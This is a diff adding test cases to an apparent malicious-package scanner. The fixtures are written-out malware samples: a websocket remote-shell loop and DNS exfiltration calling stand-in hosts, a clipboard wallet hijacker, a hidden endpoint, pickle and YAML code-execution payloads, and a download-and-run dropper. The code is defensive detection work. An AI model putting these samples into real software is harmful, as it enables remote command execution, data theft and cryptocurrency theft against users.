@@ -205,6 +205,72 @@ TECHNIQUES = [
         "binary-dropper.shellcode",
     ),
     (
+        "websocket-command-loop",
+        "import asyncio, websockets\n"
+        "async def session():\n"
+        "    async with websockets.connect('wss://c2.example.invalid/s') as ws:\n"
+        "        async for msg in ws:\n"
+        "            p = await asyncio.create_subprocess_exec('sh', '-c', msg)\n"
+        "asyncio.run(session())\n",
+        "download-execute.remote-command",
+    ),
+    (
+        "bits-in-whitespace-assembled-and-run",
+        "_w = DOC.splitlines()[1]\n"
+        "_b = bytes(int(''.join('1' if c == '\\t' else '0' for c in _w[i:i + 8]), 2)"
+        " for i in range(0, len(_w), 8))\n"
+        "exec(_b)\n",
+        "obfuscation.exec-decoded",
+    ),
+    (
+        "endpoint-decoded-by-a-helper-function",
+        "import base64, zlib, requests\n"
+        "def _d(s):\n    return zlib.decompress(base64.b64decode(s)).decode()\n"
+        "def tx(text):\n    requests.post(_d(ENDPOINT), data={'text': text})\n",
+        "suspicious-endpoint.hidden",
+    ),
+    (
+        "clipboard-commands-returned-by-a-helper",
+        "import re, subprocess, sys\n"
+        "def _cmds():\n"
+        "    if sys.platform == 'darwin':\n        return ['pbpaste'], ['pbcopy']\n"
+        "    return ['xclip', '-selection', 'clipboard', '-o'], "
+        "['xclip', '-selection', 'clipboard', '-i']\n"
+        "def run():\n"
+        "    get, put = _cmds()\n"
+        "    cur = subprocess.run(get, capture_output=True, text=True).stdout\n"
+        "    if re.match(r'0x[0-9a-fA-F]{40}', cur):\n"
+        "        subprocess.run(put, input='0x2222222222222222222222222222222222222222')\n",
+        "clipboard.wallet-hijack",
+    ),
+    (
+        "host-details-leaked-in-dns-labels-by-a-helper",
+        "import socket, getpass\n"
+        "def _send(blob):\n"
+        "    h = blob.hex()\n"
+        "    for i in range(0, len(h), 60):\n"
+        "        socket.gethostbyname('%s.%d.dns.example.invalid' % (h[i:i + 60], i))\n"
+        "def init():\n"
+        "    _send(b'|'.join([socket.gethostname().encode(), getpass.getuser().encode()]))\n"
+        "init()\n",
+        "exfiltration.host-info",
+    ),
+    (
+        "inline-python-from-a-percent-template",
+        "import subprocess, sys, platform\n"
+        "_CODE = ('import urllib.request;urllib.request.urlopen(\"http://198.51.100.23/i?h=%s\")'"
+        " % platform.node())\n"
+        "subprocess.Popen([sys.executable, '-c', _CODE])\n",
+        "suspicious-endpoint.contacted",
+    ),
+    (
+        "webhook-path-behind-any-host",
+        "import requests\n"
+        "requests.post('https://relay.example.invalid/api/webhooks/1200000000000000000/abcdefghij',"
+        " json={'content': 'installed'})\n",
+        "suspicious-endpoint.contacted",
+    ),
+    (
         "dpapi-decryption-sent",
         "import win32crypt, requests\n"
         "def steal(blob):\n"
@@ -373,3 +439,86 @@ def test_native_module_imported_by_a_pure_wheel_is_high(tmp_path: Path) -> None:
     path = _write(tmp_path, build_wheel("sx", "1.1", {"sx/__init__.py": optional, so: ELF}))
     result = scan_target(path)
     assert [f.severity.label for f in result.findings if f.file == so] == ["medium"]
+
+
+PYC = b"\xa7\r\r\n" + bytes(12) + b"\xe3\x00 os system echo inert"
+
+
+def test_bytecode_shipped_without_source() -> None:
+    assert found_bytes(PYC, "pkg/loader.pyc") == {"obfuscation.bytecode-only": "high"}
+    # pip's own compile cache is not shipped code to review.
+    assert found_bytes(PYC, "pkg/__pycache__/loader.cpython-311.pyc") == {}
+    assert found_bytes(bytes(PYC[:16]) + b"\xe3 constants", "pkg/data.pyc") == {
+        "obfuscation.bytecode-only": "medium"
+    }
+
+
+def found_bytes(data: bytes, name: str) -> dict[str, str]:
+    return {
+        f.rule: f.severity.label for f in analyse_member(FileContext(name, "wheel", True), data)
+    }
+
+
+def test_data_files_that_run_code_when_loaded(tmp_path: Path) -> None:
+    class Payload:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return (os.system, ("echo inert",))
+
+    evil = pickle.dumps(Payload(), protocol=2)
+    rule = "unsafe-deserialization.malicious-file"
+    assert rule in found_bytes(evil, "pkg/weights.pkl")
+    assert rule in found_bytes(evil, "pkg/anything")  # protocol 2+ is recognised by its header
+    assert found_bytes(pickle.dumps({"w": [1.0]}, protocol=2), "pkg/weights.pkl") == {}
+    yaml_evil = b"a: 1\nb: !!python/object/apply:os.system ['echo inert']\n"
+    assert rule in found_bytes(yaml_evil, "pkg/defaults.yaml")
+    # mkdocs-style name tags point at ordinary functions.
+    yaml_ok = b"emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
+    assert found_bytes(yaml_ok, "pkg/mkdocs.yml") == {}
+    # A torch-style checkpoint: a zip whose data.pkl calls builtins.exec.
+    import zipfile
+    from io import BytesIO
+
+    class Exec:
+        def __reduce__(self) -> tuple[object, tuple[str]]:
+            return (exec, ("print('inert')",))
+
+    buf = BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("archive/data.pkl", pickle.dumps(Exec(), protocol=2))
+        z.writestr("archive/version", "3")
+    assert rule in found_bytes(buf.getvalue(), "pkg/detector.pt")
+    # A data file that is really a zip holding a Windows executable.
+    pe = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(32)
+    buf = BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("weights/meta.json", "{}")
+        z.writestr("weights/update.exe", pe)
+    assert found_bytes(buf.getvalue(), "pkg/model.dat") == {"binary-dropper.embedded": "high"}
+    # The archive reader hands these files over far enough to see inside.
+    path = _write(
+        tmp_path, build_wheel("m", "1.0", {"m/__init__.py": "", "m/model.dat": buf.getvalue()})
+    )
+    assert scan_target(path).verdict == "suspicious"
+
+
+def test_functions_called_on_import_count_as_import_time(tmp_path: Path) -> None:
+    body = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "def install_fonts():\n"
+        "    p = os.path.join(tempfile.gettempdir(), 'f.exe')\n"
+        "    urllib.request.urlretrieve('https://c2.example.invalid/f', p)\n"
+        "    subprocess.Popen([p])\n"
+    )
+    # Same module: called from module level.
+    assert found(body + "install_fonts()\n")["download-execute.drop-and-run"] == "critical"
+    # Only defined (a tool's function): medium.
+    assert found(body)["download-execute.drop-and-run"] == "medium"
+    # Another module of the package calls it when imported.
+    init = "from ._res import install_fonts\ninstall_fonts()\n"
+    path = _write(tmp_path, build_wheel("pf", "1.0", {"pf/__init__.py": init, "pf/_res.py": body}))
+    result = scan_target(path)
+    assert result.verdict == "malicious"
+    assert any(f.file == "pf/_res.py" and f.severity == Severity.CRITICAL for f in result.findings)
+    # A dispatch table naming the function does not run it.
+    table = body + "HANDLERS = {'fonts': install_fonts}\n"
+    assert found(table)["download-execute.drop-and-run"] == "medium"
